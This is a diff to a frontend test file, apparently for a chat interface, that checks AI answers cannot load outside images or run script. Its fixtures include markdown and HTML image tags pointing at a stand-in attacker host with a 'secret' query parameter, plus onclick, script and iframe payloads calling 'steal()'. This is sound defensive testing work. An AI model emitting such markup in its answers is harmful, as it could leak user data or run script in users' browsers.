@@ -82,12 +82,24 @@ test('a turn that failed before it said anything shows its error beneath the que
   expect(net.sent('regenerate')).toMatchObject([{ message_id: 'u' }]);
 });
 
-test('no picture from outside is ever asked for, and raw HTML stays text', async () => {
-  const hostile = '![pixel](https://evil.example/p.png?q=secret) <img src="https://evil.example/x.png"> end';
+test('no picture from outside is ever asked for, in markdown or in HTML', async () => {
+  const hostile =
+    '![pixel](https://evil.example/p.png?q=secret) <img src="https://evil.example/x.png"> end\n\n' +
+    '<picture><source srcset="https://evil.example/y.png"><img src="https://evil.example/z.png"></picture>';
   const answer = message('a', 'u', { parts: [text(hostile)] });
   const { container } = await showThread({ messages: [question, answer], head_id: 'a' });
   expect(await screen.findByText('Image not loaded: pixel')).toBeInTheDocument();
   expect(container.querySelector('img')).toBeNull();
+});
+
+test('HTML that does no harm keeps its words, what would act is gone', async () => {
+  const html =
+    '<div onclick="steal()">kept <b>bold</b></div>\n\n<script>steal()</script>\n\n<iframe src="/"></iframe> after';
+  const answer = message('a', 'u', { parts: [text(html)] });
+  const { container } = await showThread({ messages: [question, answer], head_id: 'a' });
+  expect(await screen.findByText('bold')).toBeInTheDocument();
+  expect(screen.getByText(/kept/)).toBeInTheDocument();
+  expect(container.querySelector('script, iframe, [onclick]')).toBeNull();
 });
 
 test('a link that would run script has no address', async () => {
